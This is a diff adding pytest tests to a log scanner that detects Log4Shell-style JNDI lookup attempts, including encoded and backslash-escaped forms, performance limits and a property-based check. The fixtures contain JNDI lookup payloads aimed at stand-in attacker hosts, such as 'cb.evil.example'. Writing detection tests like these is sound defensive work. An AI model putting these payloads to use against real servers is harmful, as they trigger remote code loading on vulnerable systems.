@@ -7,14 +7,26 @@ import bz2
 import gzip
 import io
 import lzma
+import re
+import time
 import zipfile
 from pathlib import Path
 
 import pytest
 import zstandard
 from bench.scan_logs_corpus import attempts, benign_lines
+from hypothesis import given, settings
+from hypothesis import strategies as st
 
-from clearinghouse.scan.logs import BLOCK, LogLimits, LogScan, scan_logs, scan_stream
+from clearinghouse.scan.logs import (
+    BLOCK,
+    CANDIDATE,
+    LogLimits,
+    LogScan,
+    candidate_starts,
+    scan_logs,
+    scan_stream,
+)
 
 ATTACK = (
     b'1.2.3.4 - - [10/Dec/2021] "GET /?x=${jndi:ldap://cb.evil.example:1389/a} HTTP/1.1" 200 1\n'
@@ -130,3 +142,94 @@ def test_no_false_positive_on_a_million_benign_lines() -> None:
     scan = stream(data)
     assert scan.findings == []
     assert scan.lines == 1_000_000
+
+
+# --- runs of backslashes: linear time, the same candidates ------------------------------------
+
+JSON_ESCAPED = r'{"msg":"GET /?q={run}u0024{run}u007bjndi:ldap://e.com/a{run}u007d"}'
+
+
+@pytest.mark.parametrize("run", [1, 2, 4, 8, 1000, 2000])
+def test_escaped_lookups_behind_a_run_of_backslashes_are_found_at_the_run(run: int) -> None:
+    line = (BENIGN.decode() + JSON_ESCAPED.replace("{run}", "\\" * run) + "\n").encode()
+    scan = stream(line)
+    (finding,) = scan.findings
+    assert (finding.payload.decoded, finding.payload.host) == ("${jndi:ldap://e.com/a}", "e.com")
+    assert finding.offset == line.index(b"\\")  # the first backslash of the run
+
+
+def test_unrelated_backslash_runs_before_an_escaped_lookup_do_not_hide_it() -> None:
+    line = (
+        rb"C:\\\\Windows\\\\user\\\\x2\\\\u002 then \\\\\\\\u0024{jndi:ldap://e.com/a}"
+        rb" and \\\\x24\\\\x7bjndi:rmi://f.com/b}" + b"\n"
+    )
+    scan = stream(line)
+    assert [(f.offset, f.payload.host) for f in scan.findings] == [
+        (line.index(rb"\\\\\\\\u0024"), "e.com"),
+        (line.index(rb"\\\\x24"), "f.com"),
+    ]
+
+
+def test_a_200_kib_line_of_backslashes_is_scanned_in_linear_time() -> None:
+    # Before: every backslash of a run retried the run to its end (candidate_starts, then
+    # normalise in the decoded window): 87 s for 80 KiB, about ten minutes here.
+    run = b"\\" * (200 * 1024)
+    lines = [run + b"x\n", run + b"u0024{\n", ATTACK]
+    data = b"".join(lines)
+    started = time.perf_counter()
+    scan = stream(data)
+    elapsed = time.perf_counter() - started
+    assert elapsed < 2.0, f"{elapsed:.2f} s"
+    assert candidate_starts(data) == [len(lines[0]), len(lines[0] + lines[1]) + ATTACK.index(b"${")]
+    assert [(f.line, f.payload.host) for f in scan.findings] == [(3, "cb.evil.example")]
+    assert scan.lines == 3
+
+
+# The finder before it was made linear, kept as the definition the new one must agree with.
+def quadratic_candidate_starts(data: bytes) -> list[int]:
+    starts: set[int] = set()
+    after_byte = ((b"$", frozenset(b"{%\\&")), (b"\\", frozenset(b"uUxX\\")))
+    for byte, after in after_byte:
+        index = data.find(byte)
+        while index >= 0:
+            found = (
+                CANDIDATE.match(data, index)
+                if data[index + 1 : index + 2] and data[index + 1] in after
+                else None
+            )
+            if found is not None:
+                starts.add(index)
+                index = data.find(byte, found.end())
+            else:
+                index = data.find(byte, index + 1)
+    for token in (re.compile(rb"%2[45]"), re.compile(rb"&(?:#|dollar;)")):
+        for hit in token.finditer(data):
+            if CANDIDATE.match(data, hit.start()):
+                starts.add(hit.start())
+    return sorted(starts)
+
+
+# Texts made of the pieces of a candidate: runs of backslashes, each encoding of "$" and
+# "{" (the backslash ones without their backslash), partial tokens, and candidate-shaped
+# runs-dollar-runs-brace sequences (many of them broken).
+RUN = st.integers(0, 12).map(lambda n: b"\\" * n)
+DOLLAR = st.sampled_from(b"u0024 U0024 x24 X24 $ %24 %2524 &#36; &#0036 &#x24; &dollar;".split())
+BRACE = st.sampled_from(b"u007b u007B x7b X7B { %7b %257B &#123; &#x7b &lbrace; &lcub;".split())
+NOISE = st.sampled_from([b" ", b"\n", *b"u x X 0 24 7b % 25 &# &#x ; a".split()])
+SHAPED = st.tuples(RUN, DOLLAR, RUN, BRACE).map(b"".join)
+TEXT = st.lists(st.one_of(RUN, DOLLAR, BRACE, NOISE, SHAPED), max_size=40).map(b"".join)
+
+
+@settings(max_examples=500, database=None)
+@given(TEXT)
+def test_the_linear_finder_agrees_with_the_quadratic_one(data: bytes) -> None:
+    assert candidate_starts(data) == quadratic_candidate_starts(data)
+
+
+def test_a_decimal_reference_too_long_for_int_does_not_stop_the_file() -> None:
+    # html.unescape raised ValueError on it (int's 4,300-digit limit): the file became a
+    # problem and no attempt after the line was reported.
+    decoy = b"GET /?q=&#" + b"0" * 5000 + b"36;{x} HTTP/1.1\n"
+    scan = stream(decoy + ATTACK)
+    assert scan.problems == []
+    assert [(f.line, f.payload.host) for f in scan.findings] == [(2, "cb.evil.example")]
